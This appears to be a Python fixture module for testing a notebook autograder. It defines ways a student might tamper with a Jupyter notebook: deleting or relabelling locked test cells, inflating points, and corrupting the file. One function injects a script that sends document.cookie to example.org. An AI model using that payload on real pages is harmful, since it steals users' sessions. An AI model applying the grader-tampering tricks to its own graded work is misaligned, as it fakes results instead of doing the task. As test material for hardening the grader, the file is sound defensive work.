"""What some students of the demo class do to the notebook file itself. Each takes a notebook and changes it."""

from __future__ import annotations

import copy
from collections.abc import Iterator

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell


def tests(notebook: NotebookNode) -> Iterator[NotebookNode]:
    """The locked test cells."""
    return (cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade"))


def break_syntax(notebook: NotebookNode) -> None:
    """Leave out the colon of one function's first line."""
    for cell in notebook.cells:
        cell.source = cell.source.replace(
            "def dropout_backward(dA, D, keep_prob):", "def dropout_backward(dA, D, keep_prob)"
        )


def delete_tests(notebook: NotebookNode) -> None:
    graded = list(tests(notebook))
    notebook.cells = [cell for cell in notebook.cells if cell not in graded]


def rewrite_tests(notebook: NotebookNode) -> None:
    for cell in tests(notebook):
        cell.source = str(cell.metadata.nbgrader.points)


def retype_tests(notebook: NotebookNode) -> None:
    for cell in tests(notebook):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def flip_roles(notebook: NotebookNode) -> None:
    for cell in tests(notebook):
        cell.metadata.nbgrader.update(grade=False, solution=True, locked=False)


def raise_points(notebook: NotebookNode) -> None:
    for cell in tests(notebook):
        cell.metadata.nbgrader.points = 100


def repoint_tests(notebook: NotebookNode) -> None:
    """Give every test the id of the cheapest one."""
    for cell in tests(notebook):
        cell.metadata.nbgrader.grade_id = "dropout_q1"


def duplicate_cells(notebook: NotebookNode) -> None:
    notebook.cells = [copy.deepcopy(cell) for cell in notebook.cells for _ in range(2)]
    for index, cell in enumerate(notebook.cells):
        cell.id = f"cell-{index}"


def drop_metadata(notebook: NotebookNode) -> None:
    """As an editor that does not know nbgrader leaves it."""
    for cell in notebook.cells:
        cell.metadata = NotebookNode()


def other_kernel(notebook: NotebookNode) -> None:
    notebook.metadata.kernelspec = {"name": "julia-1.9", "display_name": "Julia 1.9", "language": "julia"}
    notebook.metadata.language_info = {"name": "julia"}


def extra_cells(notebook: NotebookNode) -> None:
    noise = "import sys, warnings\nprint('hello', file=sys.stderr)\nwarnings.warn('careful')\n1 / 0"
    notebook.cells = [entry for cell in notebook.cells for entry in (cell, new_code_cell(noise))]


def script_in_output(notebook: NotebookNode) -> None:
    script = "<script>fetch('//example.org/' + document.cookie)</script><img src=x onerror=alert(1)>"
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell(script))
    code = f"from IPython.display import HTML, display\ndisplay(HTML({script!r}))"
    notebook.cells.insert(2, new_code_cell(code))


def truncated(notebook: NotebookNode) -> bytes:
    content = nbformat.writes(notebook).encode()
    return content[: len(content) // 2]


def not_a_notebook(notebook: NotebookNode) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(200)


def empty_file(notebook: NotebookNode) -> bytes:
    return b""
